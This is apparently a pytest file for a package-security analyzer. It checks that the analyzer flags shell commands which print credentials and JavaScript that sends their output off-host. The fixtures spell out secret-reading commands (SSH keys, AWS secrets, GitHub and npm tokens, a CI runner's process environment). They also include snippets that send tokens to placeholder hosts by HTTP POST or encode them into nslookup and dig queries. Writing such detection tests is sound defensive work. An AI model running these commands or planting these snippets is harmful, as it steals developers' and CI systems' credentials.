# ruff: noqa: E501 — JavaScript fixtures read best one statement a line
"""Commands whose output is a credential (`dataflow.commands`), and their output followed to the network."""

from __future__ import annotations

import pytest

from airlock.analysis.capabilities import analyze_source
from airlock.analysis.dataflow import Kind
from airlock.analysis.dataflow.commands import command_secret
from airlock.analysis.dataflow.judge import is_exfiltration
from airlock.analysis.js import Dialect


@pytest.mark.parametrize(
    ("command", "kind"),
    [
        ("gh auth token", Kind.SECRET_ENV),
        ("npm config get //registry.npmjs.org/:_authToken", Kind.SECRET_FILE),
        ("gcloud auth print-access-token", Kind.SECRET_ENV),
        ("aws configure get aws_secret_access_key", Kind.SECRET_ENV),
        ("git credential fill", Kind.SECRET_FILE),
        ("security find-generic-password -wa Chrome", Kind.KEY_MATERIAL),
        ("trufflehog filesystem / --json", Kind.KEY_MATERIAL),
        ("sudo cat /proc/$(pgrep -f Runner.Worker)/environ | tr '\\0' '\\n'", Kind.ENV_DUMP),
        ("printenv", Kind.ENV_DUMP),
        ("cat ~/.ssh/id_rsa", Kind.SECRET_FILE),
        ("cat ~/.bash_history", Kind.HISTORY),
    ],
)
def test_credential_printing_commands(command: str, kind: Kind) -> None:
    found = command_secret(command)
    assert found is not None and found[0] is kind


@pytest.mark.parametrize(
    "command",
    [
        "git rev-parse HEAD",
        "npm config get registry",
        "gh pr list",
        "node --version",
        "env NODE_ENV=production node build.js",
    ],
)
def test_ordinary_commands_print_no_secret(command: str) -> None:
    assert command_secret(command) is None


def _exfiltrated(code: str) -> list[str]:
    flows = analyze_source("index.js", code.encode(), Dialect.JAVASCRIPT).flows.flows
    return [f.source.describe() for f in flows if is_exfiltration(f)]


CP = "const { execSync, exec } = require('child_process');\n"


@pytest.mark.parametrize(
    "code",
    [
        CP
        + "const t = execSync('gh auth token').toString().trim();\nfetch('https://c.example.invalid/g', { method: 'POST', body: t });",
        CP
        + "exec('npm config get //registry.npmjs.org/:_authToken', (err, out) => { require('https').get('https://c.example.invalid/?t=' + out); });",
        "const cp = require('child_process');\nconst r = cp.spawnSync('cat', ['/home/u/.aws/credentials']);\nfetch('https://c.example.invalid/a', { method: 'POST', body: r.stdout });",
    ],
    ids=["gh-token-sync", "npm-token-callback", "spawn-sync-cat-aws"],
)
def test_a_credential_printed_by_a_command_and_sent_out(code: str) -> None:
    assert _exfiltrated(code)


@pytest.mark.parametrize(
    "code",
    [
        # a release tool using the GitHub CLI's token against the GitHub API: a client
        CP
        + "const t = execSync('gh auth token').toString().trim();\nfetch('https://api.github.com/repos/o/r/releases', { headers: { authorization: 'token ' + t } });",
        # ordinary command output sent to a constant host
        CP
        + "const sha = execSync('git rev-parse HEAD').toString();\nfetch('https://ci.example.com/build', { method: 'POST', body: sha });",
    ],
    ids=["gh-token-to-github", "git-sha-to-ci"],
)
def test_command_output_that_is_no_theft(code: str) -> None:
    assert not _exfiltrated(code)


@pytest.mark.parametrize(
    ("code", "zone"),
    [
        (
            CP
            + "exec('nslookup ' + Buffer.from(process.env.NPM_TOKEN || '').toString('hex') + '.d.example.invalid');",
            "d.example.invalid",
        ),
        (CP + "exec(`dig +short ${process.env.GITHUB_TOKEN}.x.example.net`);", "x.example.net"),
    ],
    ids=["nslookup-concatenated", "dig-template"],
)
def test_a_token_spelled_into_a_dns_query(code: str, zone: str) -> None:
    flows = analyze_source("index.js", code.encode(), Dialect.JAVASCRIPT).flows.flows
    (flow,) = [f for f in flows if is_exfiltration(f)]
    assert flow.sink.destination == zone


def test_pinging_a_configured_host_sends_nothing() -> None:
    code = CP + "execSync('ping -c 1 ' + process.env.HEALTH_HOST);"
    assert not _exfiltrated(code)
